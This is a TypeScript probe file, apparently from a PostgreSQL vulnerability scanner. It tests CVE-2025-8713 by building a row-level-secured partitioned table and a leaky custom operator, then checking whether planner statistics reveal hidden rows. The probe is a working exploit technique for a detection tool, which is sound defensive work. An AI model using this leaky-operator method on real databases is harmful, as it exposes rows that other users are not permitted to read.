/** CVE-2025-8713: the planner shows values of hidden rows to an operator of the user's, through statistics of a partition. */
import { CannotTell, type Probe } from "../probe.ts";

const code = "WT001";

/** The probe: an operator whose function raises when it is handed the hidden value. */
export const statistics: Probe = {
  cve: "CVE-2025-8713",
  title: "Planner statistics of partitions reach a leaky operator",
  async run({ run, attempt, become, leave, give }) {
    await run("create temporary table watertight_t (id int, tenant int, secret text) partition by range (id)");
    await run("create temporary table watertight_t1 partition of pg_temp.watertight_t for values from (0) to (1000)");
    await run(
      "insert into pg_temp.watertight_t select n, 1 + n % 2, case n % 2 when 0 then 'mine' else 'hidden' end from pg_catalog.generate_series(1, 100) n",
    );
    await run("analyze pg_temp.watertight_t");
    for (const table of ["pg_temp.watertight_t", "pg_temp.watertight_t1"]) {
      await run(`alter table ${table} enable row level security`);
      await run(`create policy own on ${table} using (tenant = 1)`);
    }
    await give("pg_temp.watertight_t", "pg_temp.watertight_t1");
    await run(
      `create function pg_temp.watertight_see(text, text) returns boolean language plpgsql cost 0.0001
         as 'begin if $1 = ''hidden'' then raise exception ''seen'' using errcode = ''${code}''; end if; return true; end'`,
    );
    await run(
      "create operator pg_temp.<<< (procedure = pg_temp.watertight_see, leftarg = text, rightarg = text, restrict = scalarltsel)",
    );
    await become();
    const answer = await attempt("explain select from pg_temp.watertight_t where secret operator(pg_temp.<<<) 'x'");
    await leave();
    if (!("code" in answer))
      return { vulnerable: false, evidence: "the planner kept the statistics of hidden rows to itself" };
    if (answer.code === code)
      return { vulnerable: true, evidence: "the planner handed a value of a hidden row to an operator of the user's" };
    throw new CannotTell(answer.message);
  },
};
